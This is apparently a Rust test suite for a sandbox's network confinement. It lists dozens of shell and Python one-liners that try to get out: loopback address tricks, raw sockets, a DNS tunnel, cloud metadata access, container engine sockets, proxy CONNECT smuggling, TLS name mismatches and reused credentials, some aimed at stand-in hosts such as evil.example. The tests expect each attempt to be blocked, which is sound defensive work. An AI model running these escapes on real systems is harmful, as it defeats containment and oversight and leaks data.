//! THREATS J: ways to a network.

use super::both_ways;
use super::ground::{Ground, Try, inside, open, shut};
use stint_tests::Options;

macro_rules! python {
    ($text:literal) => {
        concat!("python3 - <<'END'\nimport socket, os, ssl, struct\nE = os.environ\n", $text, "\nEND\n")
    };
}

const PLAIN: &[Try] = &[
    open(
        "a service on loopback",
        python!("print(socket.create_connection(('127.0.0.1', int(E['T_PORT'])), 3).recv(99))"),
    ),
    open(
        "loopback by its name",
        python!("print(socket.create_connection(('localhost', int(E['T_PORT'])), 3).recv(99))"),
    ),
    open("loopback as 127.1", "curl -sS -m 3 --noproxy '*' http://127.1:$T_PORT/"),
    open("loopback as a number", "curl -sS -m 3 --noproxy '*' http://2130706433:$T_PORT/"),
    open("loopback in octal", "curl -sS -m 3 --noproxy '*' http://0177.0.0.1:$T_PORT/"),
    open("the unspecified address", "curl -sS -m 3 --noproxy '*' http://0.0.0.0:$T_PORT/"),
    open("IPv6 loopback", "curl -sS -m 3 --noproxy '*' \"http://[::1]:$T_PORT6/\""),
    open(
        "IPv4 in IPv6",
        python!(
            "s = socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(('::ffff:127.0.0.1', int(E['T_PORT']))); print(s.recv(99))"
        ),
    ),
    open("the machine's own address", "curl -sS -m 3 --noproxy '*' http://$T_OUTER:$T_PORT/"),
    open(
        "without proxy variables",
        "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy ALL_PROXY all_proxy; curl -sS -m 3 http://$T_OUTER:$T_PORT/",
    ),
    open("in an empty environment", "env -i /usr/bin/curl -sS -m 3 http://$T_OUTER:$T_PORT/"),
    open(
        "a datagram",
        python!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'x', (E['T_OUTER'], int(E['T_UDP']))); print(s.recv(9))"
        ),
    ),
    open(
        "a datagram to loopback",
        python!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'x', ('127.0.0.1', int(E['T_UDP']))); print(s.recv(9))"
        ),
    ),
    open(
        "a tunnel in DNS questions",
        python!(
            "q = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\x06secret\\x04evil\\x00\\x00\\x10\\x00\\x01'\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, (E['T_OUTER'], int(E['T_UDP']))); print(s.recv(99))"
        ),
    ),
    inside(
        "a datagram by broadcast",
        python!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.settimeout(2); s.sendto(b'x', ('255.255.255.255', int(E['T_UDP']))); print(s.recv(9))"
        ),
    ),
    inside(
        "another nameserver",
        python!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('1.1.1.1', 53)); s.send(b'x' * 12); print('GOT')"
        ),
    ),
    inside("a name of the world", "getent hosts example.com && echo GOT"),
    inside("an address of the world", "curl -sS -m 3 --noproxy '*' -k https://1.1.1.1/ && echo GOT"),
    inside(
        "an IPv6 address of the world",
        "curl -sS -m 3 --noproxy '*' -k 'https://[2606:4700:4700::1111]/' && echo GOT",
    ),
    inside(
        "a provider by a number of its own",
        "curl -sS -m 3 --noproxy '*' -k --resolve api.github.com:443:140.82.112.5 https://api.github.com/ && echo GOT",
    ),
    inside("the metadata service", "curl -sS -m 3 --noproxy '*' http://169.254.169.254/latest/ && echo GOT"),
    open(
        "an abstract socket",
        python!("s = socket.socket(socket.AF_UNIX); s.connect('\\0' + E['T_ABSTRACT']); print(s.recv(9))"),
    ),
    open(
        "a socket in a temporary folder",
        python!("s = socket.socket(socket.AF_UNIX); s.connect(E['T_SOCKET']); print(s.recv(9))"),
    ),
    open(
        "a socket in /run",
        python!("s = socket.socket(socket.AF_UNIX); s.connect(E['T_RUN_SOCKET']); print(s.recv(9))"),
    ),
    open(
        "a socket in /var/run",
        python!("s = socket.socket(socket.AF_UNIX); s.connect('/var' + E['T_RUN_SOCKET']); print(s.recv(9))"),
    ),
    open(
        "a socket through /proc",
        python!(
            "s = socket.socket(socket.AF_UNIX); s.connect('/proc/' + E['T_PID'] + '/root' + E['T_RUN_SOCKET']); print(s.recv(9))"
        ),
    ),
    inside(
        "the container engine",
        "for s in /var/run/docker.sock /run/docker.sock /run/podman/podman.sock /run/containerd/containerd.sock; do [ -S $s ] && echo GOT; done; true",
    ),
    inside(
        "the message bus",
        "for s in /run/dbus/system_bus_socket /run/user/*/bus; do [ -S $s ] && echo GOT; done; true",
    ),
    open(
        "a raw socket",
        python!("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP); print('GOT')"),
    ),
    open(
        "ICMP",
        python!("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('GOT')"),
    ),
    open("ICMP of IPv6", python!("socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58); print('GOT')")),
    open("a packet socket", python!("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); print('GOT')")),
    inside("the old packet socket", python!("socket.socket(socket.AF_INET, 10, 3); print('GOT')")),
    inside("a socket to the hypervisor", python!("socket.socket(40, socket.SOCK_STREAM); print('GOT')")),
    inside("a socket of the kernel's ciphers", python!("socket.socket(38, 5); print('GOT')")),
    open("netlink of the audit", python!("socket.socket(16, socket.SOCK_RAW, 9); print('GOT')")),
    inside(
        "QUIC at a provider's name",
        python!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('api.github.com', 443)); s.send(b'\\xc0' + b'x' * 1199); print(s.recv(99)); print('GOT')"
        ),
    ),
    inside(
        "QUIC to the world",
        python!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('1.1.1.1', 443)); s.send(b'\\xc0' + b'x' * 1199); print('GOT')"
        ),
    ),
    inside("DNS over TCP", python!("socket.create_connection(('1.1.1.1', 53), 3).send(b'x'); print('GOT')")),
    inside(
        "a datagram of another kind",
        python!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); s.connect((E['T_OUTER'], int(E['T_UDP']))); s.send(b'x'); print('GOT')"
        ),
    ),
    inside(
        "a stream of another kind",
        python!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(3); s.connect((E['T_OUTER'], int(E['T_PORT']))); print('GOT')"
        ),
    ),
    inside(
        "data with the first packet",
        python!(
            "s = socket.socket(); s.settimeout(3); s.sendto(b'x', 0x20000000, (E['T_OUTER'], int(E['T_PORT']))); print(s.recv(99))"
        ),
    ),
    inside(
        "an interface by its name",
        python!(
            "s = socket.socket(); s.settimeout(3)\nfor n in os.listdir('/sys/class/net'):\n    if n == 'lo': continue\n    s.setsockopt(socket.SOL_SOCKET, 25, n.encode()); print('GOT')"
        ),
    ),
    inside(
        "a datagram by IPv6's multicast",
        python!(
            "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'x', ('ff02::1', int(E['T_UDP']))); print('GOT')"
        ),
    ),
    inside("a new interface", "ip link add x type dummy && echo GOT"),
    inside("a route", "ip route add default dev lo && echo GOT"),
    inside("a tunnel device", "test -e /dev/net/tun && echo GOT"),
    open(
        "the broker",
        "curl -sS -m 3 --noproxy '*' -o /dev/null -w '%{http_code}' $T_BROKER/healthz | grep 200 && echo GOT",
    ),
    open(
        "the console",
        "curl -sS -m 3 --noproxy '*' -o /dev/null -w '%{http_code}' $T_BROKER/console/ | grep -v 000 && echo GOT",
    ),
    open(
        "the control plane",
        "curl -sS -m 3 --noproxy '*' -o /dev/null -w '%{http_code}' $T_BROKER/v1/sessions | grep 401 && echo GOT",
    ),
    open(
        "the gateway's own door",
        "curl -sS -m 3 --noproxy '*' -o /dev/null -w '%{http_code}' $T_BROKER/gateway/railway/graphql/v2 | grep 401 && echo GOT",
    ),
];

const PROXIED: &[Try] = &[
    shut(
        // One that shows none is taken for a client that drops it, and served inside alone: confine::silent.
        "the proxy with a wrong secret",
        "P=$(echo $HTTPS_PROXY | sed 's#//.*@#//stint:wrong@#'); curl -sS -m 5 -o /dev/null -w '%{http_connect}' --proxy $P https://api.github.com/ | grep 200 && echo GOT",
    ),
    shut(
        "loopback through the proxy",
        "curl -sS -m 5 -p --noproxy none --proxy $HTTPS_PROXY http://127.0.0.1:$T_PORT/",
    ),
    shut(
        "loopback's port 443 through the proxy",
        "curl -sS -m 5 -o /dev/null -w '%{http_connect}' --noproxy none --proxy $HTTPS_PROXY https://127.0.0.1/ | grep 200 && echo GOT",
    ),
    shut(
        "metadata through the proxy",
        "curl -sS -m 5 -p -o /dev/null -w '%{http_connect}' --proxy $HTTPS_PROXY http://169.254.169.254:80/ | grep 200 && echo GOT",
    ),
    shut(
        "the broker through the proxy",
        "curl -sS -m 5 -p --noproxy none --proxy $HTTPS_PROXY $T_BROKER/healthz | grep -i ok && echo GOT",
    ),
    shut(
        "another port of a provider",
        "curl -sS -m 5 -p -o /dev/null -w '%{http_connect}' --proxy $HTTPS_PROXY http://api.github.com:22/ | grep 200 && echo GOT",
    ),
    shut(
        "plain http through the proxy",
        "curl -sS -m 5 -o /dev/null -w '%{http_code}' --proxy $HTTPS_PROXY http://api.github.com/ | grep 200 && echo GOT",
    ),
    inside(
        "a host that nobody owns",
        "curl -sS -m 5 -o /dev/null -w '%{http_connect}' https://example.com/ | grep -v 403 && echo GOT",
    ),
    inside(
        "a host that looks like a provider's",
        "curl -sS -m 5 -o /dev/null -w '%{http_connect}' https://api.github.com.evil.example/ | grep -v 403 && echo GOT",
    ),
    inside(
        "a secret in a host's name",
        "curl -sS -m 5 -o /dev/null -w '%{http_connect}' https://s3cr3t.evil.example/ | grep -v 403 && echo GOT",
    ),
    shut(
        "another name in the greeting than in CONNECT",
        python!(
            "import base64, urllib.parse as u\np = u.urlparse(E['HTTPS_PROXY']); s = socket.create_connection((p.hostname, p.port), 5)\na = base64.b64encode((p.username + ':' + p.password).encode()).decode()\ns.sendall(('CONNECT api.github.com:443 HTTP/1.1\\r\\nHost: x\\r\\nProxy-Authorization: Basic ' + a + '\\r\\n\\r\\n').encode()); assert b'200' in s.recv(999)\nc = ssl._create_unverified_context(); c.wrap_socket(s, server_hostname='evil.example'); print('GOT')"
        ),
    ),
    inside(
        "an unknown name in the greeting",
        python!(
            "c = ssl._create_unverified_context(); c.wrap_socket(socket.create_connection(('127.0.0.1', 443), 5), server_hostname='evil.example'); print('GOT')"
        ),
    ),
    inside(
        "no name in the greeting",
        python!(
            "c = ssl._create_unverified_context(); c.check_hostname = False; c.wrap_socket(socket.create_connection(('127.0.0.1', 443), 5)); print('GOT')"
        ),
    ),
    inside(
        "a name that ends like a provider's",
        python!(
            "c = ssl._create_unverified_context(); c.wrap_socket(socket.create_connection(('127.0.0.1', 443), 5), server_hostname='xapi.github.com'); print('GOT')"
        ),
    ),
    inside(
        "another Host than the greeting's",
        "env -i /usr/bin/curl -sS -m 5 --cacert $SSL_CERT_FILE --http1.1 -H 'Host: backboard.railway.com' -o /dev/null -w '%{http_code}' https://api.github.com/ | grep -v 400 && echo GOT",
    ),
    inside(
        "another authority than the greeting's",
        "env -i /usr/bin/curl -sS -m 5 --cacert $SSL_CERT_FILE --http2 -H 'Host: backboard.railway.com' -o /dev/null -w '%{http_code}' https://api.github.com/ | grep -v 400 && echo GOT",
    ),
    inside(
        "two Host headers",
        "env -i /usr/bin/curl -sS -m 5 --cacert $SSL_CERT_FILE --http1.1 --request-target https://backboard.railway.com/ -o /dev/null -w '%{http_code}' https://api.github.com/ | grep -v 400 && echo GOT",
    ),
    inside(
        "DNS over HTTPS",
        "curl -sS -m 5 -o /dev/null -w '%{http_connect}' 'https://cloudflare-dns.com/dns-query?name=s3cr3t.evil.example' | grep -v 403 && echo GOT",
    ),
    inside(
        "an address by its number through the proxy",
        "curl -sS -m 5 -k -o /dev/null -w '%{http_connect}' https://1.1.1.1/ | grep -v 403 && echo GOT",
    ),
    inside(
        "an IPv6 address through the proxy",
        "curl -sS -m 5 -k -o /dev/null -w '%{http_connect}' 'https://[2606:4700:4700::1111]/' | grep -v 403 && echo GOT",
    ),
    inside(
        "a provider's name at an address of one's own, through the proxy",
        "curl -sS -m 5 -k -o /dev/null -w '%{http_connect}' --connect-to api.github.com:443:1.1.1.1:443 https://api.github.com/ | grep -v 403 && echo GOT",
    ),
    inside(
        "a host in other letters, with a dot at its end",
        "for h in EXAMPLE.com example.com. Example.COM.; do curl -sS -m 5 -o /dev/null -w '%{http_connect}' https://$h/ | grep -v 403 && echo GOT; done; true",
    ),
    shut(
        "user information before the host",
        python!(
            "import base64, urllib.parse as u\np = u.urlparse(E['HTTPS_PROXY']); a = base64.b64encode((p.username + ':' + p.password).encode()).decode()\nfor h in ('api.github.com@evil.example:443', 'api.github.com:443@evil.example:443', 'api.github.com%2eevil.example:443', 'api.github.com:443 evil.example:443'):\n    s = socket.create_connection((p.hostname, p.port), 5); s.settimeout(5)\n    s.sendall(('CONNECT ' + h + ' HTTP/1.1\\r\\nHost: x\\r\\nProxy-Authorization: Basic ' + a + '\\r\\n\\r\\n').encode()); r = s.recv(99); print(h, r[:20]); b' 200 ' in r[:20] and print('GOT')"
        ),
    ),
    inside(
        "plain http at the door for TLS",
        "env -i /usr/bin/curl -sS -m 8 http://127.0.0.1:443/ && echo GOT",
    ),
    inside(
        "another protocol by upgrade",
        "env -i /usr/bin/curl -sS -m 5 --cacert $SSL_CERT_FILE --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -o /dev/null -w '%{http_code}' https://api.github.com/ | grep 101 && echo GOT",
    ),
    inside(
        "the sidecar's words to the gateway",
        "env -i /usr/bin/curl -sS -m 5 --cacert $SSL_CERT_FILE -H 'stint-host: evil.example' -H 'authorization: DPoP x' -o /dev/null -w '%{http_code}' https://api.github.com/user | grep 200 && echo GOT",
    ),
];

const FOREIGN: &[Try] = &[
    inside(
        "a found key as bearer",
        "env -i /usr/bin/curl -sS -m 9 --cacert $SSL_CERT_FILE -H 'Authorization: Bearer 0e1d2c3b-4a59-4687-8796-a5b4c3d2e1f0' https://backboard.railway.com/graphql/v2 -H 'content-type: application/json' -d '{\"query\":\"{ me { name } }\"}' | grep -v foreign_credential && echo GOT",
    ),
    inside(
        "a found key in the project's header",
        "env -i /usr/bin/curl -sS -m 9 --cacert $SSL_CERT_FILE -H \"Authorization: Bearer $RAILWAY_API_TOKEN\" -H 'Project-Access-Token: 0e1d2c3b-4a59-4687-8796-a5b4c3d2e1f0' https://backboard.railway.com/graphql/v2 -H 'content-type: application/json' -d '{\"query\":\"{ me { name } }\"}' | grep -v foreign_credential && echo GOT",
    ),
    inside(
        "a found key as basic",
        "env -i /usr/bin/curl -sS -m 9 --cacert $SSL_CERT_FILE -u x:ghp_0123456789abcdefghijABCDEFGHIJ012345 https://api.github.com/user | grep -v foreign_credential && echo GOT",
    ),
    inside(
        "a found key in a cookie",
        "env -i /usr/bin/curl -sS -m 9 --cacert $SSL_CERT_FILE -H \"Authorization: Bearer $RAILWAY_API_TOKEN\" -b 'token=0e1d2c3b-4a59-4687-8796-a5b4c3d2e1f0' https://backboard.railway.com/graphql/v2 -H 'content-type: application/json' -d '{\"query\":\"{ me { name } }\"}' | grep '\"name\"' && echo GOT",
    ),
    inside(
        "a found key in the query",
        "env -i /usr/bin/curl -sS -m 9 --cacert $SSL_CERT_FILE -H \"Authorization: Bearer $RAILWAY_API_TOKEN\" 'https://backboard.railway.com/graphql/v2?token=0e1d2c3b-4a59-4687-8796-a5b4c3d2e1f0' -H 'content-type: application/json' -d '{\"query\":\"{ me { name } }\"}' | grep '\"name\"' && echo GOT",
    ),
    inside(
        "a found key by the legacy host",
        "env -i /usr/bin/curl -sS -m 9 --cacert $SSL_CERT_FILE -H 'Authorization: Bearer 0e1d2c3b-4a59-4687-8796-a5b4c3d2e1f0' https://backboard.railway.app/graphql/v2 -d '{\"query\":\"{ me { name } }\"}' | grep -v foreign_credential && echo GOT",
    ),
    inside(
        "the placeholder at another provider",
        "env -i /usr/bin/curl -sS -m 9 --cacert $SSL_CERT_FILE -H \"Authorization: Bearer $RAILWAY_API_TOKEN\" https://api.github.com/user | grep '\"login\"' && echo GOT",
    ),
];

#[test]
fn there_is_no_way_to_a_network() {
    both_ways(PLAIN);
}

#[test]
fn the_way_that_there_is_leads_nowhere_else() {
    both_ways(PROXIED);
}

#[test]
fn a_key_that_was_found_is_refused_in_every_carrier() {
    both_ways(FOREIGN);
}

#[test]
fn no_datagram_leaves_even_unanswered() {
    let ground = Ground::new(Options::default());
    let send = [inside(
        "datagrams",
        "python3 -c \"
import os, socket
for a in (os.environ['T_OUTER'], '127.0.0.1', '255.255.255.255', '224.0.0.1'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try: s.sendto(b'x', (a, int(os.environ['T_UDP'])))
    except OSError as e: print(e)
\"",
    )];
    if ground.attempt(true, &send).is_some() {
        assert_eq!(ground.datagrams(), 0);
    }
}
